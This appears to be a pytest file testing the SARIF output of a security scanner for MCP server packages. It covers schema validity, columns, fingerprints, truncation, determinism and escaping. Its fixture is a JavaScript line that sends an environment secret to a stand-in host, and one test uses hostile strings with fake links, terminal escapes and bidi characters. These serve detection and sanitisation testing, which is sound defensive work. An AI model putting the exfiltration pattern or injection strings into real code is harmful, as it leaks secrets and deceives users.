"""SARIF: valid, as GitHub reads it, safe with hostile input, and the same bytes every time."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import jsonschema
import pytest
from github_lint import lint

from mcp_sast.detection.loader import load_rules
from mcp_sast.findings.diagnostic import Diagnostic
from mcp_sast.findings.finding import Finding, Related, Step, identified
from mcp_sast.findings.place import Place
from mcp_sast.findings.report import Report, Stats, Subject
from mcp_sast.reports import sarif
from mcp_sast.reports.frames import frames_of
from mcp_sast.reports.options import ReportOptions

_SCHEMA = json.loads((Path(__file__).parent / "schemas" / "sarif-2.1.0.json").read_text("utf-8"))
_VALIDATOR = jsonschema.Draft4Validator(_SCHEMA)

CODE = 'const key = process.env.ACME_KEY;\nconst π = "😀"; fetch("https://collect.example.net", {\n  body: key,\n});\n'.encode()


def place_of(code: bytes, part: str, path: str = "src/index.js") -> Place:
    start = code.index(part.encode())
    return Place(path, start, start + len(part.encode()))


def finding(**changes: Any) -> Finding:
    base = Finding(
        rule="env-exfiltration", level="error", message="The variable ACME_KEY is sent to collect.example.net.",
        place=place_of(CODE, 'fetch("https://collect.example.net"'), function="src/index.js#", phase="import",
        steps=(Step(place_of(CODE, "process.env.ACME_KEY"), "reads ACME_KEY"), Step(place_of(CODE, "body: key"), "sent as body")),
        chain=(Step(Place("src/index.js", 0, 5), "module top of src/index.js"),),
        source="ACME_KEY", destination="collect.example.net", confidence="high",
    )
    return replace(base, **changes)


def report_of(*findings: Finding, contents: dict[str, bytes] | None = None, diagnostics: tuple[Diagnostic, ...] = (),
              name: str = "acme-mcp") -> Report:
    contents = contents or {"src/index.js": CODE}
    known = identified(findings)
    places = [f.place for f in known] + [s.place for f in known for s in (*f.steps, *f.chain)]
    places += [r.place for f in known for r in f.related] + [d.place for d in diagnostics if d.place]
    return Report(
        Subject(name, "1.0.0", "npm", "", "0" * 64), known, (), diagnostics, Stats(files=len(contents), rules=3),
        tuple(rule.text for rule in load_rules()), frames_of(places, contents), any(d.incomplete for d in diagnostics),
    )


def render(*reports: Report, **options: Any) -> dict[str, Any]:
    """The document, after all that must hold of every document was checked."""
    text = sarif.render(reports, ReportOptions(**options))
    log: dict[str, Any] = json.loads(text)
    assert [error.message for error in _VALIDATOR.iter_errors(log)] == []
    assert lint(log) == []
    return log


def results(log: dict[str, Any]) -> list[dict[str, Any]]:
    found: list[dict[str, Any]] = log["runs"][0]["results"]
    return found


def test_a_finding_has_place_flow_links_and_properties() -> None:
    log = render(report_of(finding()))
    (result,) = results(log)
    assert result["ruleId"] == "env-exfiltration"
    assert result["message"]["text"] == (
        "The variable ACME_KEY is sent to collect.example.net. Source: [index.js](1). Reached from: [index.js](2)."
    )
    location = result["locations"][0]["physicalLocation"]
    assert location["artifactLocation"] == {"uri": "src/index.js", "uriBaseId": "%SRCROOT%"}
    titles = [flow["message"]["text"] for flow in result["codeFlows"]]
    assert titles == ["How the data flows", "How it is reached"]
    assert result["properties"] == {
        "confidence": "high", "phase": "import", "source": "ACME_KEY", "destination": "collect.example.net",
        "function": "src/index.js#",
    }


def test_columns_are_utf16_code_units() -> None:
    (result,) = results(render(report_of(finding())))
    region = result["locations"][0]["physicalLocation"]["region"]
    before = 'const π = "😀"; '
    start = len(before.encode("utf-16-le")) // 2 + 1
    assert start == len(before) + 2  # the emoji counts twice
    assert region == {"startLine": 2, "startColumn": start, "endLine": 2, "endColumn": start + len('fetch("https://collect.example.net"')}


def test_a_place_of_several_lines_becomes_its_first_line() -> None:
    start = CODE.index(b"fetch")
    (result,) = results(render(report_of(finding(place=Place("src/index.js", start, len(CODE) - 1)))))
    region = result["locations"][0]["physicalLocation"]["region"]
    line = CODE.decode().split("\n")[1]
    assert (region["startLine"], region["endLine"]) == (2, 2)
    assert region["endColumn"] == len(line.encode("utf-16-le")) // 2 + 1


def test_level_is_always_written_and_all_rules_are_listed() -> None:
    log = render(report_of(finding(level="warning")))
    assert results(log)[0]["level"] == "warning"
    rules = log["runs"][0]["tool"]["driver"]["rules"]
    assert sorted(rule["id"] for rule in rules) == sorted(rule.id for rule in load_rules())
    assert "env-exfiltration" in [rule["id"] for rule in rules]
    levels = {rule.id: rule.text.level for rule in load_rules()}
    assert {rule["id"]: rule["defaultConfiguration"]["level"] for rule in rules} == levels
    assert all(rule["help"]["markdown"].startswith(f"# {rule['id']}") for rule in rules)


def test_no_finding_is_an_empty_list() -> None:
    log = render(report_of())
    assert results(log) == []
    assert log["runs"][0]["invocations"] == [{"executionSuccessful": True, "toolExecutionNotifications": []}]


def test_notes_are_left_out_unless_asked_for() -> None:
    report = report_of(finding(level="note"), finding(rule="undeclared-host", level="warning"))
    log = render(report)
    assert [result["level"] for result in results(log)] == ["warning"]
    assert log["runs"][0]["properties"]["notesHidden"] == 1
    assert [result["level"] for result in results(render(report, notes=True))] == ["warning", "note"]


def test_the_fingerprint_survives_edits_elsewhere_and_tells_equal_findings_apart() -> None:
    moved = b"// a new first line\n" + CODE

    def shifted(place: Place) -> Place:
        return replace(place, start=place.start + 20, end=place.end + 20)

    (before,) = results(render(report_of(finding())))
    (after,) = results(render(report_of(finding(place=shifted(finding().place)), contents={"src/index.js": moved})))
    assert before["partialFingerprints"] == after["partialFingerprints"]
    twice = results(render(report_of(finding(), finding(place=place_of(CODE, "body: key")))))
    assert twice[0]["partialFingerprints"] != twice[1]["partialFingerprints"]
    (other,) = results(render(report_of(finding(destination="other.example.net"))))
    assert other["partialFingerprints"] != before["partialFingerprints"]


def test_long_flows_keep_both_ends() -> None:
    steps = tuple(Step(Place("src/index.js", 0, 5), f"step {number}") for number in range(120))
    (result,) = results(render(report_of(finding(steps=steps))))
    flow = result["codeFlows"][0]
    texts = [step["location"]["message"]["text"] for step in flow["threadFlows"][0]["locations"]]
    assert len(texts) == 50
    assert (texts[0], texts[-1]) == ("step 0", "step 119")
    assert "70 steps" in flow["message"]["text"]


def test_the_least_severe_are_cut_and_the_cut_is_said() -> None:
    many = [finding(level="warning", message=f"w{n}.", source=f"w{n}", steps=(), chain=()) for n in range(sarif.MOST_RESULTS)]
    log = render(report_of(*many, finding(message="the error.")))
    assert len(results(log)) == sarif.MOST_RESULTS
    assert results(log)[0]["message"]["text"].startswith("the error.")
    notes = log["runs"][0]["invocations"][0]["toolExecutionNotifications"]
    assert [note["descriptor"]["id"] for note in notes] == ["report-cut"]
    assert "1 of 5001 findings" in notes[0]["message"]["text"]


def test_flows_are_dropped_before_the_document_becomes_too_large(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sarif, "MOST_FLOW_STEPS", 4)
    log = render(report_of(finding(), finding(source="OTHER_KEY")))
    assert ["codeFlows" in result for result in results(log)] == [True, False]
    assert "flows of 1 finding" in log["runs"][0]["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"]


def test_diagnostics_become_notifications_and_an_incomplete_scan_is_no_success() -> None:
    broken = Diagnostic("broken-syntax", "src/index.js: a part could not be parsed", Place("src/index.js", 3, 4))
    log = render(report_of(diagnostics=(broken,)))
    invocation = log["runs"][0]["invocations"][0]
    assert invocation["executionSuccessful"] is True
    (note,) = invocation["toolExecutionNotifications"]
    assert note["level"] == "warning"
    assert note["locations"][0]["physicalLocation"]["region"]["startColumn"] == 4
    stopped = Diagnostic("limit-reached", "out of memory", None, "error", incomplete=True)
    assert render(report_of(diagnostics=(stopped,)))["runs"][0]["invocations"][0]["executionSuccessful"] is False


@pytest.mark.parametrize("path", [
    "a b/ü.js", "c:/x.js", "a%20b.js", "q?x#y.js", "\x1b[31mred.js", "bidi\u202egpj.js", "new\nline.js", "back\\slash.js",
    "bytes\udcff.js", "sur\ud800.js", "💥.js", "-x.js", "(1)[x](http:).js",
])
def test_hostile_paths(path: str) -> None:
    here = Place(path, 0, 5)
    there = finding(place=here, steps=(Step(here, "reads"),), chain=(Step(Place(path, 6, 9), "top"),))
    log = render(report_of(there, contents={path: CODE}))
    assert "\\u202e" not in json.dumps(log)
    assert "\\u001b" not in json.dumps(log)


def test_hostile_texts_make_no_links_and_steer_no_terminal() -> None:
    evil = "key [click](https://evil.example) [a](7) \x1b]8;;https://evil.example\x07x\u202e\u200b\n{0}"
    log = render(report_of(
        finding(message=evil, source=evil, guard=evil, tools=(evil,), related=(Related(Place("src/index.js", 0, 5), evil),)),
        diagnostics=(Diagnostic("broken-syntax", evil),), name="@evil/../" + evil,
    ))
    text = json.dumps(log)
    assert not any(escape in text for escape in ("\\u001b", "\\u202e", "\\u200b", "\\u0007"))
    assert log["runs"][0]["automationDetails"]["id"].startswith("mcp-sast/@evil/")


def test_paths_get_the_prefix_of_the_repository() -> None:
    (result,) = results(render(report_of(finding()), path_prefix="packages/my server"))
    assert result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "packages/my%20server/src/index.js"


def test_the_bytes_do_not_depend_on_hash_seed_or_order_of_findings() -> None:
    found = (finding(), finding(source="OTHER_KEY"), finding(rule="undeclared-host", level="warning"))
    orders = (found, found[::-1])
    assert len({sarif.render((report_of(*order),), ReportOptions()) for order in orders}) == 1
    program = (
        "import sys; sys.path.insert(0, 'tests'); import test_sarif as t; from mcp_sast.reports import sarif; "
        "sys.stdout.write(sarif.render((t.report_of(t.finding(), t.finding(source='B')),), t.ReportOptions()))"
    )
    root = Path(__file__).parent.parent
    outputs = [
        subprocess.run([sys.executable, "-c", program], cwd=root, env=environment, capture_output=True, check=True).stdout
        for environment in ({**os.environ, "PYTHONHASHSEED": "1"}, {**os.environ, "PYTHONHASHSEED": "2"})
    ]
    assert outputs[0] == outputs[1] != b""


def test_the_lint_itself_can_fail() -> None:
    log = render(report_of(finding()))
    run = log["runs"][0]
    run["results"][0]["locations"][0]["physicalLocation"]["region"]["endLine"] += 1
    run["results"][0]["partialFingerprints"] = {}
    run["tool"]["driver"]["rules"][0]["help"].pop("markdown")
    run["automationDetails"]["id"] = "x"
    assert len(lint(log)) == 4
